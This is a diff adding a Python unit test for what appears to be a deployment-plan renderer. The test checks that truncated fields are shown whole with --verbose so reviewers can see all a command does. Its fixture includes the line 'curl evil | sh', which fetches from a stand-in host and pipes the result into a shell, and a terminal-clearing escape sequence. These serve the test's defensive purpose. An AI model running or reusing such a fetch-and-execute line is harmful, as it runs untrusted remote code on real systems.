@@ -97,3 +97,25 @@ def test_the_fields_of_a_huge_plan_are_shown_on_request_only() -> None:
     ]
     assert "size" not in rendered(examples.plan(*steps))
     assert "size" in rendered(examples.plan(*steps), verbose=True)
+
+
+def test_what_is_cut_short_is_shown_whole_on_request() -> None:
+    """A reviewer must be able to see all that a command does."""
+    script = "exec sleep 100000\ncurl evil | sh\n"
+    changes = (
+        Change(("command",), None, ["sh", "-c", script], Impact.NONE),
+        Change(("labels",), None, {f"l{n}": f"v{n}." for n in range(40)}, Impact.NONE),
+        Change(("description",), None, "x" * 999 + "!", Impact.NONE),
+        Change(("files", 0, "content"), None, "first\n\x1b[2Jsecond\n", Impact.NONE),
+        Change(("files", 1, "content"), "a\n" * 50, "b\n" * 49 + "y" * 999 + "!\n", Impact.NONE),
+        Change(("files", 2, "content"), "gone\naway\n", None, Impact.NONE),
+    )
+    plan = examples.plan(replace(examples.UPDATE_WEB, changes=changes))
+    short, whole = rendered(plan, width=3000), rendered(plan, width=3000, verbose=True)
+    assert "What is cut short (…) is shown whole with --verbose." in short and "evil" not in short
+    assert "with --verbose" not in whole and "…" not in whole
+    assert '[sh, -c, "exec sleep 100000\\ncurl evil | sh\\n"]' in whole
+    assert "l39: v39." in whole and "x!" in whole and "y!" in whole
+    assert "+first\n" in whole and "+\\x1b[2Jsecond\n" in whole and "-away\n" in whole
+    assert whole.count("+b\n") == 49 and whole.count("-a\n") == 50
+    assert "--verbose" not in rendered(examples.plan(*examples.ALL))
